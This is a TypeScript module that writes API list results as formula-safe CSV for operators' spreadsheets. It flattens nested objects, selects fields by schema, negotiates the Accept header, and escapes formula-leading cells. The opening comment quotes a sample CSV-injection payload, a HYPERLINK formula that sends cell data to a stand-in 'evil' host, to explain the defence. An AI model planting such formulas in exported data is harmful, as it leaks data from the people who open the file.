/**
 * CSV answers of the list endpoints (`Accept: text/csv`): operators live in spreadsheets. UTF-8
 * with a byte-order mark, so Excel opens Chinese names as Chinese; a header row; one row per item;
 * nested objects flattened into dotted columns (`name.zh`, `quota.electricity.usedPercent`).
 *
 * **Formula-safe.** A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and, in some,
 * a tab or a carriage return) as a formula, so a device name or a dead-lettered payload such as
 * `=HYPERLINK("http://evil/?"&A1)` would run on the operator's machine. Following the OWASP CSV
 * injection guidance, such text cells are prefixed with a single quote (csv-stringify's
 * `escape_formulas`, which also covers the full-width ＝ ＋ － ＠ some spreadsheets normalise).
 * Numbers are written as numbers: a negative figure (a refund, a temperature) stays `-3.5`.
 * A cell holding a line break, lone CR or LF included, is quoted, so it cannot start a row.
 */
import { stringify } from 'csv-stringify/sync';

export const CSV_TYPE = 'text/csv; charset=utf-8';

type Flat = Record<string, string | number | boolean | null>;

/**
 * One item as a flat record. Objects nest as `a.b`; an array of objects that carry a `kind` or an
 * `id` (e.g. quota figures) becomes one group of columns per kind; other arrays are joined with
 * `;`; null and undefined become empty cells.
 */
export function flatten(value: unknown, prefix = '', into: Flat = {}): Flat {
  if (value === null || value === undefined) {
    if (prefix !== '') into[prefix] = null;
    return into;
  }
  if (Array.isArray(value)) {
    const keyed = value.every(
      (v) =>
        v !== null &&
        typeof v === 'object' &&
        (typeof (v as { kind?: unknown }).kind === 'string' ||
          typeof (v as { id?: unknown }).id === 'string'),
    );
    if (keyed && value.length > 0) {
      for (const element of value as Array<Record<string, unknown>>) {
        const key = String(element.kind ?? element.id);
        const { kind: _kind, ...rest } = element;
        flatten(typeof element.kind === 'string' ? rest : element, join(prefix, key), into);
      }
    } else {
      into[prefix] = value
        .map((v) => (v !== null && typeof v === 'object' ? JSON.stringify(v) : String(v)))
        .join(';');
    }
    return into;
  }
  if (typeof value === 'object') {
    for (const [key, v] of Object.entries(value as Record<string, unknown>))
      flatten(v, join(prefix, key), into);
    return into;
  }
  into[prefix] = value as string | number | boolean;
  return into;
}

function join(prefix: string, key: string): string {
  return prefix === '' ? key : `${prefix}.${key}`;
}

interface JsonSchema {
  readonly properties?: Record<string, JsonSchema>;
  readonly patternProperties?: Record<string, JsonSchema>;
  readonly additionalProperties?: boolean | JsonSchema;
  readonly items?: JsonSchema;
  readonly anyOf?: readonly JsonSchema[];
}

/**
 * The value with only what its JSON Schema lists (as fastify's serialiser does for JSON), so a
 * CSV row never holds a field the JSON answer leaves out.
 */
export function pick(jsonSchema: object, value: unknown): unknown {
  const schema = jsonSchema as JsonSchema;
  if (value === null || typeof value !== 'object') return value;
  if (Array.isArray(value))
    return schema.items ? value.map((v) => pick(schema.items as JsonSchema, v)) : value;
  if (schema.anyOf) {
    const object = schema.anyOf.find((v) => v.properties !== undefined || v.patternProperties !== undefined);
    return object ? pick(object, value) : value;
  }
  const record = value as Record<string, unknown>;
  if (schema.properties) {
    const out: Record<string, unknown> = {};
    for (const [key, sub] of Object.entries(schema.properties)) {
      if (record[key] !== undefined) out[key] = pick(sub, record[key]);
    }
    if (schema.additionalProperties === true) {
      for (const [key, v] of Object.entries(record)) if (!(key in out)) out[key] = v;
    }
    return out;
  }
  const values = schema.patternProperties ? Object.values(schema.patternProperties)[0] : undefined;
  if (values) return Object.fromEntries(Object.entries(record).map(([k, v]) => [k, pick(values, v)]));
  return value;
}

/**
 * The columns a JSON Schema of an item gives: its properties, nested objects as dotted columns
 * (for the header of an empty list, where no item shows them).
 */
export function columnsOf(schema: unknown, prefix = ''): string[] {
  const s = schema as { properties?: Record<string, unknown>; anyOf?: unknown[] };
  if (s.anyOf) {
    const object = s.anyOf.find((v) => (v as { properties?: unknown }).properties !== undefined);
    return object ? columnsOf(object, prefix) : [prefix];
  }
  if (!s.properties) return [prefix];
  return Object.entries(s.properties).flatMap(([key, value]) => columnsOf(value, join(prefix, key)));
}

/** Items as CSV text: BOM, header row (every column any item has, in first-seen order), rows. */
export function toCsv(items: readonly unknown[], columns?: readonly string[]): string {
  const rows = items.map((item) => flatten(item));
  const header = columns ? [...columns] : [...new Set(rows.flatMap((row) => Object.keys(row)))];
  return stringify(rows, {
    bom: true,
    header: true,
    columns: header.map((key) => ({ key, header: key })),
    record_delimiter: 'windows',
    escape_formulas: true,
    // With an explicit record delimiter csv-stringify quotes only cells holding that exact
    // sequence; a lone LF or CR (a dead-lettered payload) would then split the row.
    quote_record_delimiter: true,
    cast: { boolean: (v) => (v ? 'true' : 'false') },
  });
}

/** Whether the caller prefers CSV to JSON, by the `Accept` header's media ranges and q-values. */
export function wantsCsv(accept: string | undefined): boolean {
  if (!accept) return false;
  let csv = -1;
  let json = -1;
  for (const part of accept.split(',')) {
    const [range = '', ...params] = part.trim().toLowerCase().split(';');
    const qParam = params.map((p) => p.trim()).find((p) => p.startsWith('q='));
    const q = qParam ? Number(qParam.slice(2)) : 1;
    if (!Number.isFinite(q)) continue;
    const type = range.trim();
    if (type === 'text/csv') csv = Math.max(csv, q);
    else if (type === 'application/json') json = Math.max(json, q);
  }
  // Wildcards (*/*, text/*) do not pick CSV: JSON stays the default.
  return csv > 0 && csv >= json;
}
